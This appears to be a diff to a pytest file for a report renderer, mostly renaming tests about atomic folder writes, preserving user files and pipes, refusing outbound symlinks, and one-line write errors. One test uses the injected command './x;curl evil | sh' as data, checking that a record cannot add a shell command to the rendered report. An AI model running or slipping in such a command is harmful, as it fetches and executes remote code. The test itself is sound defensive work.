@@ -1,4 +1,4 @@
-"""A report's folder: as a whole or as it was, and nothing of others is lost."""
+"""A report's folder is written completely or not at all, and the user's files stay."""
 
 from __future__ import annotations
 
@@ -15,7 +15,7 @@ from records import few, h100, keep, no_gpu
 
 
 def test_rendering_in_place_changes_nothing(report: Report, tmp_path: Path) -> None:
-    """The folder itself is a record too: rendered from it, into it."""
+    """A report's folder is also a record's: it can be both input and output."""
     report(few())
     before = tree(tmp_path / "report")
     result = run("render", tmp_path / "report", "--output", tmp_path / "report")
@@ -27,8 +27,8 @@ IN_THE_WAY = ["README.md", "record.json", "report.html", "charts/claims.svg"]
 
 @pytest.mark.parametrize("pipe", [False, True])
 @pytest.mark.parametrize("name", IN_THE_WAY)
-def test_what_is_of_no_report_is_not_overwritten(name: str, pipe: bool, tmp_path: Path) -> None:
-    """Nor does a pipe keep anybody waiting."""
+def test_a_file_of_the_user_is_not_overwritten(name: str, pipe: bool, tmp_path: Path) -> None:
+    """A pipe does not block the command either."""
     out = tmp_path / "out"
     (out / name).parent.mkdir(parents=True)
     if pipe:
@@ -40,7 +40,7 @@ def test_what_is_of_no_report_is_not_overwritten(name: str, pipe: bool, tmp_path
     assert tree(out) == ({} if pipe else {name: b"mine"}) and (out / name).is_fifo() == pipe
 
 
-def test_a_report_s_own_bytes_are_not_in_its_way(report: Report, tmp_path: Path) -> None:
+def test_an_identical_file_is_not_in_the_way(report: Report, tmp_path: Path) -> None:
     """A run's folder becomes its report."""
     report(few())
     (tmp_path / "other").mkdir()
@@ -48,16 +48,14 @@ def test_a_report_s_own_bytes_are_not_in_its_way(report: Report, tmp_path: Path)
     assert run("render", tmp_path / "report", "--output", tmp_path / "other").returncode == 0
 
 
-def test_what_a_record_says_is_no_command(report: Report) -> None:
+def test_a_record_cannot_add_a_shell_command(report: Report) -> None:
     record = few()
     record["environment"]["command"] = "./x;curl evil | sh"
     lines = "\n".join(re.findall(r"```sh\n(.*?)```", text_of(report(record)), re.S)).split("\n")
     assert len(lines) > 1 and not any("curl" in line.split("#")[0] for line in lines)
 
 
-def test_what_is_of_an_older_report_goes_and_what_is_not_ours_stays(
-    report: Report, tmp_path: Path
-) -> None:
+def test_files_of_an_older_report_go_and_other_files_stay(report: Report, tmp_path: Path) -> None:
     folder = tmp_path / "report"
     report(no_gpu("matvec/"))
     assert (folder / "matvec.md").exists()
@@ -73,8 +71,8 @@ def test_what_is_of_an_older_report_goes_and_what_is_not_ours_stays(
     assert (folder / "pipe.md").is_fifo()
 
 
-def test_no_link_leads_out_of_the_folder(report: Report, tmp_path: Path) -> None:
-    """Of a folder, of a file, or to nowhere."""
+def test_links_out_of_the_folder_are_refused(report: Report, tmp_path: Path) -> None:
+    """Links to a folder, to a file, or to nothing."""
     record, elsewhere = few(), tmp_path / "else"
     report(record)
     folder = tmp_path / "report"
@@ -90,7 +88,7 @@ def test_no_link_leads_out_of_the_folder(report: Report, tmp_path: Path) -> None
 
 
 def test_a_folder_that_cannot_be_written_is_one_line(tmp_path: Path) -> None:
-    """A file in the folder's place, and where even root can make none."""
+    """A file has the folder's name, or not even root can create the folder."""
     (tmp_path / "report").write_text("mine")
     for target in (tmp_path / "report", Path("/proc/recheck-report")):
         line = one_line(run("render", keep(tmp_path / "input", few()), "--output", target), 1)
